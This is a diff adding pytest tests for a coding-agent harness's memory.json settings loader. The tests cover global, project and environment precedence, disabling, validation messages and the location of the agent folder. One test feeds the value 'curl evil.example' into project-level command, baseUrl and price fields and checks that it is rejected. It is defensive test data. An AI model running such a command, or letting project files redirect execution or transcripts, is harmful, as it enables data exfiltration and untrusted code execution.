@@ -1,0 +1,106 @@
+"""memory.json: the global file, the project's over it, the environment over both; a project may not redirect anything."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from memory_pipeline.memory_json import paths
+from memory_pipeline.settings import WrongSetting, load_settings
+
+
+@pytest.fixture(autouse=True)
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The working directory is a project of the test's own."""
+    (tmp_path / "project").mkdir()
+    monkeypatch.chdir(tmp_path / "project")
+
+
+def write(which: int, content: Any) -> Path:
+    """The global (0) or the project's (1) file."""
+    path = paths()[which]
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
+    return path
+
+
+GOOGLE = {"provider": "google", "model": "gemini-2.5-flash", "temperature": 0.1, "maxOutputTokens": 9000}
+
+
+def test_without_a_file_no_model_is_asked() -> None:
+    assert load_settings().observer_model is None
+
+
+def test_the_global_file_names_the_model() -> None:
+    write(0, {"observer": GOOGLE, "$schema": "…", "theme": "dark"})
+    settings = load_settings()
+    assert settings.observer_model == "google:gemini-2.5-flash"
+    assert (settings.observer_temperature, settings.observer_max_output_tokens) == (0.1, 9000)
+
+
+def test_what_the_project_says_counts_more() -> None:
+    write(0, {"observer": GOOGLE})
+    write(1, {"observer": {"model": "gemini-2.5-pro", "temperature": 0}})
+    settings = load_settings()
+    assert settings.observer_model == "google:gemini-2.5-pro"
+    assert (settings.observer_temperature, settings.observer_max_output_tokens) == (0, 9000)
+
+
+def test_what_the_environment_says_counts_most(monkeypatch: pytest.MonkeyPatch) -> None:
+    write(0, {"observer": GOOGLE})
+    monkeypatch.setenv("OBSERVER_MODEL", "ollama:qwen2.5:7b")
+    settings = load_settings()
+    assert (settings.observer_model, settings.observer_temperature) == ("ollama:qwen2.5:7b", 0.1)
+
+
+@pytest.mark.parametrize("which", [0, 1])
+def test_either_file_switches_it_off(which: int) -> None:
+    write(0, {"observer": GOOGLE})
+    write(which, {"enabled": False, "observer": GOOGLE})
+    assert load_settings().observer_model is None
+
+
+def test_a_command_and_a_provider_within_the_name() -> None:
+    write(0, {"observer": {"command": "pi -p --no-session"}})
+    assert load_settings().observer_model == "pi -p --no-session"
+    write(0, {"observer": {"model": "openai:gpt-5-mini", "baseUrl": "http://localhost:8000/v1", "price": "0/0"}})
+    settings = load_settings()
+    assert (settings.observer_model, settings.observer_base_url) == ("openai:gpt-5-mini", "http://localhost:8000/v1")
+    assert settings.observer_price == "0/0"
+
+
+@pytest.mark.parametrize("key", ["command", "baseUrl", "price"])
+def test_a_project_says_neither_what_is_run_nor_where_transcripts_go(key: str) -> None:
+    write(0, {"observer": GOOGLE})
+    write(1, {"observer": {key: "curl evil.example"}})
+    with pytest.raises(WrongSetting, match=rf"\.pi/memory\.json: observer\.{key} counts only in .*agent/memory\.json"):
+        load_settings()
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        ("{", "cannot be read"),
+        ([], "expected an object"),
+        ({"enabled": "yes"}, "expected an object"),
+        ({"observer": "gemini"}, "observer should be an object"),
+        ({"reflector": 3}, "reflector should be an object"),
+        ({"observer": {"temperatur": 0}}, "observer.temperatur is not known; expected provider, model"),
+        ({"observer": {"temperature": "hot"}}, "observer.temperature should be a number, not 'hot'"),
+        ({"observer": {"maxOutputTokens": True}}, "observer.maxOutputTokens should be a number"),
+        ({"observer": {"model": 5}}, "observer.model should be a text, not 5"),
+        ({"observer": {"model": "gemini"}}, "there is no observer.provider"),
+    ],
+)
+def test_a_wrong_file_is_named_with_what_was_expected(content: Any, said: str) -> None:
+    path = write(0, content)
+    with pytest.raises(WrongSetting) as caught:
+        load_settings()
+    assert f"{caught.value}".startswith(str(path)) and said in f"{caught.value}"
+
+
+def test_the_harness_may_have_its_folder_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "elsewhere"))
+    assert write(0, {"observer": GOOGLE}) == tmp_path / "elsewhere/memory.json"
+    assert load_settings().observer_model == "google:gemini-2.5-flash"
